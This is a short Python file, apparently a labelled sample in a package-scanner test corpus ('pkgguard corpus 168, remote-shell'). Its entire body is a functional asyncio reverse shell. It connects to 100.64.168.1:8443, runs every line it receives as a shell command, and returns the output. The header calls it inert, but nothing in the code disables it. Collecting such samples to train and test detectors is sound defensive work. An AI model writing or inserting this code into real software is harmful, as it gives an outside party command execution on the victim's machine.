# pkgguard corpus 168 (remote-shell), modelled on [taxonomy]; inert, never run.
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("100.64.168.1", 8443)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE,
                                                     stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


asyncio.run(main())
